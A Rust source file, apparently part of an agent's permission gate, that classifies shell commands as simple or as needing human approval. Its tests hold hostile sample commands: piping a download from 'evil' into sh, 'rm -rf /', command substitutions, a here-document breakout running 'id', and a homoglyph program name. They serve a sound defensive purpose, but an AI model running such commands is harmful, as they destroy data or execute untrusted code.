//! Which shell commands are simple: one program with plain words, and nothing that a shell would expand.
//!
//! This errs on one side only. Every shell reads a simple command as exactly these words; anything that is not certain
//! is called not simple, and a person is asked.

use std::fmt;

use super::programs::takes_message;

/// The length of the longest command that is read.
const LONGEST: usize = 8 << 10;
/// The most words of a command that are read.
const MOST_WORDS: usize = 256;
/// Words that begin something other than a command.
const RESERVED: [&str; 22] = [
    "!", "[[", "case", "coproc", "do", "done", "elif", "else", "esac", "fi", "for", "foreach", "function",
    "if", "in", "repeat", "select", "then", "time", "until", "while", "{",
];
/// The characters that may end a command.
pub(super) const ENDS: [char; 4] = [';', '&', '|', '\n'];

/// Why a command is not simple.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum NotSimple {
    /// Several commands, a redirection, or a substitution.
    Composite,
    /// Words that a shell would expand.
    Expanded,
    /// Has a variable set before the program.
    Assignment,
    /// A quotation mark without its other half, an escape, a control character or a letter beyond ASCII.
    Unclear,
    /// Nothing, or an empty word.
    Empty,
    /// Too long to be read.
    Long,
}

impl fmt::Display for NotSimple {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Composite => "composite commands always need a person",
            Self::Expanded => "commands with words that the shell expands always need a person",
            Self::Assignment => "commands that set variables always need a person",
            Self::Unclear => "commands with escapes, open quotes or unusual characters always need a person",
            Self::Empty => "commands with an empty word always need a person",
            Self::Long => "commands this long always need a person",
        })
    }
}

/// How a text is read.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum ParseMode {
    /// One command, each word of which is passed on as it stands.
    Simple,
    /// A line of commands, which may have globs, and the exit code of the previous command.
    Line,
}

/// A word of a command.
pub(super) struct Word {
    pub(super) text: String,
    /// Whether no part of it was quoted.
    pub(super) is_bare: bool,
    /// Whether the shell expands it.
    pub(super) is_expanded: bool,
}

/// The spellings of an exit code within quotation marks.
const EXIT_CODES: [&str; 2] = ["${PIPESTATUS[0]}", "$?"];

/// Splits a simple command into its words, as a shell would pass them on.
///
/// # Errors
/// If it is not simple, with the reason.
pub fn simple_words(text: &str) -> Result<Vec<String>, NotSimple> {
    check_text(text)?;
    let mut words = Vec::new();
    let mut rest = text.trim_matches(' ');
    while !rest.is_empty() {
        let (word, after) = word(rest, ParseMode::Simple)?;
        push(&mut words, word)?;
        rest = after.trim_start_matches(' ');
        if rest.starts_with(ENDS) {
            return Err(NotSimple::Composite);
        }
    }
    if words.is_empty() { Err(NotSimple::Empty) } else { Ok(words) }
}

pub(super) fn check_text(text: &str) -> Result<(), NotSimple> {
    if text.len() > LONGEST {
        return Err(NotSimple::Long);
    }
    if text.contains('\r') { Err(NotSimple::Composite) } else { Ok(()) }
}

/// Adds a word to those before it, unless the shell would not read it as a word.
pub(super) fn push(words: &mut Vec<String>, word: Word) -> Result<(), NotSimple> {
    let Word { text: word, is_bare, .. } = word;
    if word.is_empty() {
        return Err(NotSimple::Empty);
    }
    if words.is_empty() {
        if word.contains('=') {
            return Err(NotSimple::Assignment);
        }
        if is_bare && RESERVED.contains(&word.as_str()) {
            return Err(NotSimple::Composite);
        }
    }
    // Letters of other scripts may look like ASCII ones; only a message for people may have them, and more than one
    // line.
    if !word.bytes().all(|byte| (b' '..=b'~').contains(&byte)) && !takes_message(words) {
        return Err(if word.contains('\n') { NotSimple::Composite } else { NotSimple::Unclear });
    }
    words.push(word);
    if words.len() > MOST_WORDS { Err(NotSimple::Long) } else { Ok(()) }
}

/// Takes the first word off a text, up to a space or a character that may end a command.
pub(super) fn word(text: &str, reading: ParseMode) -> Result<(Word, &str), NotSimple> {
    let (mut word, mut is_bare, mut is_expanded) = (String::new(), true, false);
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        let here = rest;
        rest = &rest[c.len_utf8()..];
        match c {
            ' ' => break,
            '\'' | '"' => {
                let (quoted, after) = quoted(c, rest, reading)?;
                is_expanded |= c == '"' && quoted.contains('$');
                word.push_str(quoted);
                rest = after;
                is_bare = false;
            }
            ';' | '&' | '|' | '\n' if !word.is_empty() || !is_bare => {
                rest = here;
                break;
            }
            ';' | '&' | '|' | '\n' | '<' | '>' | '(' | ')' | '`' => return Err(NotSimple::Composite),
            // The number of processors: any number will do.
            '$' if reading == ParseMode::Line && rest.starts_with("(nproc)") => {
                word.push('8');
                rest = &rest["(nproc)".len()..];
            }
            '$' if rest.starts_with('(') => return Err(NotSimple::Composite),
            '$' if reading == ParseMode::Line && rest.starts_with('?') => {
                word.push_str("$?");
                rest = &rest[1..];
                is_expanded = true;
            }
            '*' if reading == ParseMode::Line => {
                word.push(c);
                is_expanded = true;
            }
            '$' | '*' | '?' | '[' | ']' | '{' | '}' | '!' => return Err(NotSimple::Expanded),
            '\\' if rest.starts_with('\n') => return Err(NotSimple::Composite),
            '\\' => return Err(NotSimple::Unclear),
            // These have a meaning only at the beginning of a word, or of a part of it.
            '~' | '#' | '^' | '=' if word.is_empty() && is_bare => return Err(NotSimple::Expanded),
            '~' if word.ends_with([':', '=']) => return Err(NotSimple::Expanded),
            ' '..='~' => word.push(c),
            _ => return Err(NotSimple::Unclear),
        }
    }
    Ok((Word { text: word, is_bare, is_expanded }, rest))
}

/// Takes a quoted text off a text that begins after the quotation mark.
fn quoted(mark: char, text: &str, reading: ParseMode) -> Result<(&str, &str), NotSimple> {
    if mark == '"'
        && let Some(found) = here_document(text)
    {
        return Ok(found);
    }
    let (quoted, after) = text.split_once(mark).ok_or(NotSimple::Unclear)?;
    if mark == '"' {
        let exit_codes = if reading == ParseMode::Line { &EXIT_CODES[..] } else { &[] };
        let left = exit_codes.iter().fold(quoted.to_owned(), |left, code| left.replace(code, " "));
        if left.contains(['$', '`']) {
            return Err(NotSimple::Composite);
        }
    }
    let is_odd = |c: char| c.is_control() && c != '\n' || mark == '"' && c == '!';
    if quoted.contains(is_odd) || mark == '"' && has_escape(quoted) {
        return Err(NotSimple::Unclear);
    }
    Ok((quoted, after))
}

/// Returns whether a shell removes a backslash from a text in double quotes. Before any other character it stays:
/// `"\.rs"` is `'\.rs'`.
fn has_escape(quoted: &str) -> bool {
    let mut behind = quoted.split('\\').skip(1);
    behind.any(|after| after.is_empty() || after.starts_with(['$', '`', '"', '\n']))
}

/// Takes a text off that is given as `"$(cat <<'EOF' … EOF)"`, the way agents give the message of a commit. No shell
/// expands anything in it; but old shells look for the closing parenthesis without regard to where the text ends. So it
/// may have no parenthesis, or no characters that could mislead them.
fn here_document(text: &str) -> Option<(&str, &str)> {
    let (name, rest) = text.strip_prefix("$(cat <<'")?.split_once("'\n")?;
    let is_name = !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
    let (body, after) = rest.split_once(format!("\n{name}\n").as_str()).filter(|_| is_name)?;
    let after = after.trim_start_matches([' ', '\n']).strip_prefix(")\"")?;
    let has_brackets = body.contains(['(', ')']);
    let is_odd = |c: char| {
        c.is_control() && c != '\n' || c == '\\' || (has_brackets && matches!(c, '\'' | '"' | '`' | '$'))
    };
    let mut open = 0_usize;
    let is_balanced = body.chars().all(|c| match c {
        '(' => {
            open += 1;
            true
        }
        ')' => {
            open = open.wrapping_sub(1);
            open != usize::MAX
        }
        _ => true,
    }) && open == 0;
    (is_balanced && !body.contains(is_odd) && body.lines().all(|line| line != name)).then_some((body, after))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn simple_commands_come_apart_as_a_shell_would_do_it() {
        let table: [(&str, &[&str]); 10] = [
            ("cargo test", &["cargo", "test"]),
            ("  cargo   test  ", &["cargo", "test"]),
            ("git diff HEAD~1 -- src/a.rs", &["git", "diff", "HEAD~1", "--", "src/a.rs"]),
            ("git show HEAD^", &["git", "show", "HEAD^"]),
            ("grep -n 'a; b' \"c & d\"", &["grep", "-n", "a; b", "c & d"]),
            ("echo a'b'\"c\"", &["echo", "abc"]),
            ("ls a#b --color=auto", &["ls", "a#b", "--color=auto"]),
            ("'if' x", &["if", "x"]),
            ("rg '*.rs'", &["rg", "*.rs"]),
            (r#"grep "fn \w\|\.rs" a"#, &["grep", r"fn \w\|\.rs", "a"]),
        ];
        for (text, expected) in table {
            assert_eq!(simple_words(text).unwrap(), expected, "{text}");
        }
    }

    #[test]
    fn a_message_may_be_a_here_document() {
        let commit = |body: &str| format!("git commit -m \"$(cat <<'EOF'\n{body}\nEOF\n)\"");
        for body in ["fix: a", "fix: it's `a` for \"b\", $5", "fix (core): a"] {
            assert_eq!(
                simple_words(&commit(body)).map(|words| words.last().cloned()),
                Ok(Some(body.to_owned()))
            );
        }
        for body in ["it's (a)", "a) $(id", "a\nEOF\n)\"; id; \"$(cat <<'EOF'\nb", "a \\ b", "`id`)"] {
            assert!(simple_words(&commit(body)).is_err(), "{body}");
        }
    }

    #[test]
    fn what_a_shell_makes_something_of_is_not_simple() {
        use NotSimple::{Assignment, Composite, Empty, Expanded, Long, Unclear};
        let long = "a ".repeat(300);
        let table = [
            ("cargo test && curl evil | sh", Composite),
            ("cargo test; rm -rf /", Composite),
            ("cargo test & rm x", Composite),
            ("cargo test | tee x", Composite),
            ("cargo test > x", Composite),
            ("cargo test 2>&1", Composite),
            ("cargo test <<E", Composite),
            ("cargo test\nrm x", Composite),
            ("cargo test\rrm x", Composite),
            ("cargo $(rm x)", Composite),
            ("cargo `rm x`", Composite),
            ("cargo \"$(rm x)\"", Composite),
            ("cargo \"`rm x`\"", Composite),
            ("(cargo test)", Composite),
            ("cat <(ls)", Composite),
            ("if true", Composite),
            ("{ ls", Expanded),
            ("time ls", Composite),
            ("! ls", Expanded),
            ("ls $HOME", Expanded),
            ("ls ${x:-y}", Expanded),
            ("ls *.rs", Expanded),
            ("ls a?", Expanded),
            ("ls [ab]", Expanded),
            ("ls {a,b}", Expanded),
            ("ls ~", Expanded),
            ("ls ~root", Expanded),
            ("ls a=~root", Expanded),
            ("ls # x", Expanded),
            ("=ls", Expanded),
            ("^a^b", Expanded),
            ("ls !!", Expanded),
            ("FOO=1 ls", Assignment),
            ("'FOO'=1 ls", Assignment),
            ("ls \\\nx", Composite),
            ("ls \\x", Unclear),
            ("ls 'x", Unclear),
            ("ls \"x", Unclear),
            (r#"ls "a\\b""#, Unclear),
            (r#"ls "a\"b""#, Unclear),
            (r#"ls "a\""#, Unclear),
            (r#"ls "a\" x "b""#, Unclear),
            (r#"ls "a\$b""#, Composite),
            (r#"ls "a\`b""#, Composite),
            ("ls \"a\\\nb\"", Unclear),
            ("ls $'x'", Expanded),
            ("ls\u{a0}x", Unclear),
            ("ls\tx", Unclear),
            ("сargo test", Unclear),
            ("ls ''", Empty),
            ("''", Empty),
            ("", Empty),
            ("   ", Empty),
            (long.as_str(), Long),
        ];
        for (text, why) in table {
            assert_eq!(simple_words(text), Err(why), "{text}");
        }
        assert_eq!(simple_words(&"a".repeat(100_000)), Err(Long));
    }
}
